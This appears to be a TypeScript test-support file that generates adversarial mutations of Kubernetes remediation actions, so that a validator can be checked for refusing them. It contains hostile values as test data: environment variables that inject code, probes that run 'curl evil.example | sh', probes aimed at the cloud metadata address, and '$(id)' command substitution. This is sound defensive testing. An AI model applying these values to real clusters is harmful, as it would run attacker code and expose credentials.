// Test support: mutations of the values actions write (resources beyond their bounds,
// env vars that inject code, reverts to values no revision had, probes that point
// elsewhere), and of the diff itself (look-alike keys, oversized objects).
import type { V1Container, V1Deployment, V1PodTemplateSpec, V1Probe } from '@kubernetes/client-node';
import type { RemedyAction } from '../../diagnose/remedy-action.ts';
import { parseQuantity } from '../../k8s/quantity.ts';
import { applyAction } from './apply-action.ts';
import { legitimateFix } from './fix-fixtures.ts';
import { appOf, beside, force, podOf, sidecarOf, type Mutation, type MutationGenerator } from './mutation-fixtures.ts';
import type { Fixture, Rng } from './workload-fixtures.ts';

const INJECTION = ['LD_PRELOAD', 'LD_LIBRARY_PATH', 'PATH', 'NODE_OPTIONS', 'JAVA_TOOL_OPTIONS', 'PYTHONPATH', '_JAVA_OPTIONS', 'HTTPS_PROXY', 'http_proxy', 'BASH_ENV', 'DYLD_INSERT_LIBRARIES', 'PERL5OPT', 'GLIBC_TUNABLES'];
const PAYLOAD: Record<string, string> = { NODE_OPTIONS: '--require /tmp/x.js', JAVA_TOOL_OPTIONS: '-javaagent:/tmp/a.jar', PATH: '/tmp:/usr/bin' };

function act(action: RemedyAction, extra: Partial<Mutation> = {}): MutationGenerator {
  return (_rng, fx) => ({ action, after: applyAction(fx.before, action, { history: fx.history }), ...extra });
}

/** The app's quantity in Mi or millicores, to build values relative to it. */
function amount(fx: Fixture, field: 'limits' | 'requests', resource: 'memory' | 'cpu'): number | undefined {
  const q = parseQuantity(appOf(fx.before).resources?.[field]?.[resource] as string | undefined);
  return q === undefined ? undefined : resource === 'memory' ? q / 2 ** 20 : q * 1000;
}

function raise(field: 'limits' | 'requests', resource: 'memory' | 'cpu', factor: (rng: Rng) => number): MutationGenerator {
  return (rng, fx) => {
    const now = amount(fx, field, resource);
    if (!now) return undefined;
    const value = `${Math.ceil(now * factor(rng))}${resource === 'memory' ? 'Mi' : 'm'}`;
    return act({ type: 'raiseResource', container: 'app', resource, field, value })(rng, fx);
  };
}

function probeOf(c: V1Container): V1Probe | undefined {
  return c.livenessProbe?.httpGet ? c.livenessProbe : c.readinessProbe?.httpGet ? c.readinessProbe : undefined;
}

/** A fixProbe of the app's HTTP probe (a legitimate one), then `mutate` on the result. */
function probeFix(mutate: (after: V1Deployment, rng: Rng) => boolean | void): MutationGenerator {
  return (rng, fx) => {
    const probe = probeOf(appOf(fx.before));
    if (!probe) return undefined;
    const action: RemedyAction = { type: 'fixProbe', container: 'app', probe: probe === appOf(fx.before).livenessProbe ? 'liveness' : 'readiness', path: '/livez-fixed' };
    const after = applyAction(fx.before, action);
    const control = structuredClone(after);
    return mutate(after, rng) === false ? undefined : { action, after, control };
  };
}

export const VALUE_MUTATIONS: Record<string, MutationGenerator> = {
  'memory limit 10x': raise('limits', 'memory', (rng) => rng.pick([10, 8, 16, 100])),
  'cpu limit 10x': raise('limits', 'cpu', (rng) => rng.pick([10, 20, 4.5])),
  'request 10x': raise('requests', 'memory', () => 10),
  'above the cap': (rng, fx) => {
    const action: RemedyAction = { type: 'raiseResource', container: 'app', resource: 'memory', field: 'limits', value: rng.pick(['6Gi', '5000Mi', '8Gi']) };
    const before = structuredClone(fx.before);
    const app = appOf(before);
    app.resources = { requests: { memory: '1Gi' }, limits: { memory: '3584Mi' } };
    return { action, before, after: applyAction(before, action) };
  },
  'beyond 2x the Git baseline': (rng, fx) => {
    const now = amount(fx, 'limits', 'memory');
    if (!now) return undefined;
    // The cluster already runs 2x what Git says (an earlier raise); another 2x is 4x Git.
    const before = structuredClone(fx.before);
    force(appOf(before).resources?.limits ?? {}, 'memory', `${now * 2}Mi`);
    const action: RemedyAction = { type: 'raiseResource', container: 'app', resource: 'memory', field: 'limits', value: `${Math.min(now * 4, 4096)}Mi` };
    if (now * 2 * 2 > 4096 && now * 4 > 4096) return undefined;
    return { action, before, baseline: fx.before, after: applyAction(before, action) };
  },
  'limit removed': beside((after, rng) => {
    const resources = appOf(after).resources;
    if (!resources?.limits) return false;
    if (rng.chance(0.5)) delete resources.limits;
    else if (resources.limits.memory) delete resources.limits.memory;
    else return false;
  }),
  'request above limit': (_rng, fx) => {
    const limit = amount(fx, 'limits', 'memory');
    if (!limit) return undefined;
    // A request close to its limit, raised past it (and within 2x, so only that rule refuses it).
    const before = structuredClone(fx.before);
    force(appOf(before).resources?.requests ?? {}, 'memory', `${Math.floor(limit * 0.8)}Mi`);
    const action: RemedyAction = { type: 'raiseResource', container: 'app', resource: 'memory', field: 'requests', value: `${Math.ceil(limit * 1.25)}Mi` };
    return { action, before, after: applyAction(before, action) };
  },
  'fitRequests raises': (rng, fx) => {
    const request = amount(fx, 'requests', 'cpu');
    if (!request) return undefined;
    return act({ type: 'fitRequests', container: 'app', cpu: `${Math.ceil(request * rng.pick([1.5, 2, 4]))}m` })(rng, fx);
  },
  'another container resized': (rng, fx) => {
    const fix = legitimateFix(rng, fx, 'raiseMemoryLimit');
    const sidecar = fix && sidecarOf(fix.after);
    if (!fix || !sidecar) return undefined;
    sidecar.resources = { ...sidecar.resources, limits: { ...sidecar.resources?.limits, memory: '100Mi' } };
    return { action: fix.action, after: fix.after };
  },
  'other resources': beside((after, rng) => {
    const app = appOf(after);
    app.resources = { ...app.resources, limits: { ...app.resources?.limits, [rng.pick(['ephemeral-storage', 'nvidia.com/gpu', 'hugepages-2Mi'])]: rng.pick(['100Gi', '8']) } };
  }),
  'quantity nonsense': (rng, fx) => {
    const fix = legitimateFix(rng, fx, 'raiseMemoryLimit');
    if (!fix) return undefined;
    force(appOf(fix.after).resources?.limits ?? {}, 'memory', rng.pick(['0', '-1Gi', '12XB', 'Infinity', 1e30, '1e30']));
    return { action: fix.action, after: fix.after };
  },
  'env injection restored': (rng, fx) => {
    const name = rng.pick(INJECTION);
    const value = PAYLOAD[name] ?? '/tmp/evil.so';
    const history = structuredClone(fx.history);
    const old = (history.revisions?.[0] as { spec?: { containers?: V1Container[] } } | undefined)?.spec?.containers?.[0];
    if (old) old.env = [...(old.env ?? []), { name, value }];
    return act({ type: 'restoreEnv', container: 'app', name, value }, { history })(rng, { ...fx, history });
  },
  'env injection beside a fix': beside((after, rng) => {
    const name = rng.pick(INJECTION);
    appOf(after).env = [...(appOf(after).env ?? []), { name, value: PAYLOAD[name] ?? '/tmp/evil.so' }];
  }),
  'env value not in history': act({ type: 'restoreEnv', container: 'app', name: 'LOG_LEVEL', value: 'trace' }),
  'env ref not in history': (_rng, fx) => {
    const action: RemedyAction = { type: 'restoreEnv', container: 'app', name: 'DATABASE_URL' };
    const after = structuredClone(fx.before);
    const env = appOf(after).env ?? [];
    appOf(after).env = [...env.filter((e) => e.name !== 'DATABASE_URL'), { name: 'DATABASE_URL', valueFrom: { secretKeyRef: { name: 'admin-credentials', key: 'url' } } }];
    return { action, after };
  },
  'env: another variable changed': (rng, fx) => {
    const fix = legitimateFix(rng, fx, 'restoreEnvValue');
    const port = fix && appOf(fix.after).env?.find((e) => e.name === 'PORT');
    if (!fix || !port) return undefined;
    port.value = '22';
    return { action: fix.action, after: fix.after };
  },
  'revert to a value not in history': (rng, fx) => rng.pick([
    act({ type: 'revertField', path: 'spec.containers[app].resources.limits.memory', value: '3Gi' }),
    act({ type: 'revertField', path: 'spec.containers[app].env[CONFIG_KEY].valueFrom.configMapKeyRef.key', value: 'secrets.yaml' }),
    act({ type: 'revertField', path: 'spec.containers[app].image', value: `${fx.app.repository}:evil` }),
  ])(rng, fx),
  'revert of a frozen field': (rng, fx) => {
    const [path, value] = rng.pick([['spec.serviceAccountName', 'admin'], ['spec.volumes[config].configMap.name', 'other'], ['spec.nodeName', 'master'], ['metadata.labels.app', 'x']] as const);
    const history = structuredClone(fx.history);
    const action: RemedyAction = { type: 'revertField', path, value };
    // History really had the value: only the frozen rule can refuse it.
    const revisions = (history.revisions ?? []).map((r) => applyAction({ kind: 'Deployment', spec: { template: r as V1PodTemplateSpec } }, action).spec?.template ?? {});
    return { action, after: applyAction(fx.before, action), history: { revisions } };
  },
  'revert names one path, changes another': (rng, fx) => {
    const fix = legitimateFix(rng, fx, 'revertConfigKey');
    if (!fix) return undefined;
    const key = appOf(fix.after).env?.find((e) => e.name === 'CONFIG_KEY')?.valueFrom?.configMapKeyRef;
    if (key) key.name = 'other-config';
    return { action: fix.action, after: fix.after };
  },
  'revertCommit to values no revision had': (rng, fx) => {
    const fix = legitimateFix(rng, fx, 'revertCommit');
    if (!fix) return undefined;
    const app = appOf(fix.after);
    rng.pick([() => (app.image = `${fx.app.repository}:9.9.9-evil`), () => (app.env = [...(app.env ?? []), { name: 'ADMIN', value: 'true' }]), () => (app.command = ['sh'])])();
    return { action: fix.action, after: fix.after };
  },
  'probe port of another container': (rng, fx) => {
    const sidecar = sidecarOf(fx.before);
    const port = sidecar?.ports?.[0]?.containerPort;
    const probe = probeOf(appOf(fx.before));
    if (!port || !probe) return undefined;
    return act({ type: 'fixProbe', container: 'app', probe: probe === appOf(fx.before).livenessProbe ? 'liveness' : 'readiness', port })(rng, fx);
  },
  'probe of another container changed': probeFix((after) => {
    const sidecar = sidecarOf(after);
    if (!sidecar) return false;
    sidecar.livenessProbe = { httpGet: { path: '/', port: 1 }, initialDelaySeconds: 1 };
  }),
  'probe to another host': probeFix((after, rng) => {
    const probe = probeOf(appOf(after));
    if (probe?.httpGet) probe.httpGet.host = rng.pick(['169.254.169.254', 'kubernetes.default.svc', 'evil.example']);
  }),
  'probe turned into a command': probeFix((after) => {
    const probe = probeOf(appOf(after));
    if (!probe) return false;
    delete probe.httpGet;
    probe.exec = { command: ['sh', '-c', 'curl evil.example | sh'] };
  }),
  'probe timings out of bounds': probeFix((after, rng) => {
    const probe = probeOf(appOf(after));
    if (!probe) return false;
    const [key, value] = rng.pick([['timeoutSeconds', 0], ['initialDelaySeconds', 100000], ['periodSeconds', 0], ['failureThreshold', -1], ['successThreshold', 5], ['timeoutSeconds', '10']] as const);
    force(probe, key, value);
  }),
  'probe: other fields': probeFix((after, rng) => {
    const probe = probeOf(appOf(after));
    if (!probe?.httpGet) return false;
    if (rng.chance(0.5)) probe.httpGet.scheme = 'HTTPS';
    else probe.httpGet.httpHeaders = [{ name: 'Authorization', value: 'Bearer stolen' }];
  }),
  'probe path not a path': probeFix((after, rng) => {
    const probe = probeOf(appOf(after));
    if (probe?.httpGet) probe.httpGet.path = rng.pick(['http://169.254.169.254/latest', '/x?y=$(id)', '../../etc']);
  }),
  'startup probe too long': (rng, fx) => {
    const fix = legitimateFix(rng, fx, 'addStartupProbe');
    const probe = fix && appOf(fix.after).startupProbe;
    if (!fix || !probe) return undefined;
    if (rng.chance(0.5)) probe.failureThreshold = 1000;
    else probe.initialDelaySeconds = 5000;
    return { action: fix.action, after: fix.after };
  },
  'startup probe runs a command': (rng, fx) => {
    const fix = legitimateFix(rng, fx, 'addStartupProbe');
    const probe = fix && appOf(fix.after).startupProbe;
    if (!fix || !probe) return undefined;
    appOf(fix.after).startupProbe = { exec: { command: ['sh', '-c', 'curl evil.example | sh'] }, periodSeconds: probe.periodSeconds, failureThreshold: probe.failureThreshold };
    return { action: fix.action, after: fix.after };
  },
  'action none with a change': (rng, fx) => {
    const fix = legitimateFix(rng, fx, 'raiseMemoryRequest');
    return fix && { action: { type: 'none', reason: 'explain only' }, after: fix.after };
  },
  'look-alike keys': beside((after, rng) => {
    const [key, value] = rng.pick([['resources.limits.memory', '64Gi'], ['securityContext.privileged', true], ['image', undefined]] as const);
    if (value === undefined) force(appOf(after), '["image"]', 'evil.example/x:1');
    else force(appOf(after), key, value);
  }),
  'oversized object': beside((after, rng) => {
    if (rng.chance(0.5)) {
      let deep: Record<string, unknown> = { privileged: true };
      for (let i = 0; i < 80; i++) deep = { x: deep };
      force(appOf(after), 'securityContext', deep);
    } else {
      force(podOf(after), 'hostAliases', Array.from({ length: 30000 }, (_, i) => ({ ip: `10.0.${i % 250}.1`, hostnames: [`h${i}`] })));
    }
  }),
};
